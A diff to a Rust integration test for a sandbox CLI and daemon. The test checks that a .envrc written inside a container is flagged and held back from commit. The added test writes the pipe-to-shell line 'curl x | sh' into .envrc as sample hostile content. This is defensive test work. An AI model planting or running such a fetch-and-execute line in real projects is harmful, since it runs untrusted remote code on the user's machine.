@@ -944,7 +944,27 @@ fn the_cli_drives_a_daemon_through_host() {
     let out = host(&["rm", "box"], b"");
     assert_eq!(code(&out), 125);
     assert!(stderr(&out).contains("running"), "{}", stderr(&out));
+    ok(&host(
+        &[
+            "exec",
+            "box",
+            "--",
+            "sh",
+            "-c",
+            "echo 'curl x | sh' > .envrc",
+        ],
+        b"",
+    ));
     ok(&host(&["stop", "--time", "1s", "box"], b""));
+    // Its changes reviewed and committed through the daemon: a file the
+    // host runs is flagged and applied only when accepted.
+    let diff = ok(&host(&["diff", "box"], b""));
+    assert!(diff.contains(" f\n") && diff.contains(".envrc"), "{diff}");
+    assert!(diff.contains("! "), "the .envrc is not flagged: {diff}");
+    let out = host(&["commit", "box"], b"");
+    assert_eq!(code(&out), 125, "{}", stdout(&out));
+    assert!(stderr(&out).contains("flagged"), "{}", stderr(&out));
+    assert!(ok(&host(&["commit", "box", "f"], b"")).contains("applied f"));
     ok(&host(&["rm", "box"], b""));
     assert_eq!(stdout(&host(&["ls", "--json"], b"")).trim(), "[]");
 
@@ -959,7 +979,7 @@ fn the_cli_drives_a_daemon_through_host() {
             "--ask cannot be used with --host",
         ),
         (vec!["run", "--"], "give the command after --"),
-        (vec!["diff", "box"], "does not go through a daemon"),
+        (vec!["snapshot", "box"], "does not go through a daemon"),
     ] {
         let out = host(&args, b"");
         assert_eq!(code(&out), 125, "{args:?}");
